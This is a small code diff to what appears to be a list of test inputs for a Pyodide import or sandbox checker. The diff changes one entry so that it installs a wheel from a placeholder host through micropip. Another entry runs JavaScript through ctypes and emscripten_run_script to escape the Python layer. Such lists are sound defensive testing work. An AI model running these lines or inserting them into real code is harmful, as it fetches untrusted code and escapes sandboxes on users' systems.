@@ -26,7 +26,7 @@ IMPORTS = (
     "from pyodide.code import run_js",
     "from pyodide.ffi import create_proxy",
     "from pyodide.http import pyfetch",
-    "import micropip",
+    "import micropip; micropip.install('https://example.invalid/a-1-py3-none-any.whl')",
     "import lookback.kernels",
     "import lookback.checker",
     "import ctypes; ctypes.CDLL(None).emscripten_run_script(b'postMessage(1)')",
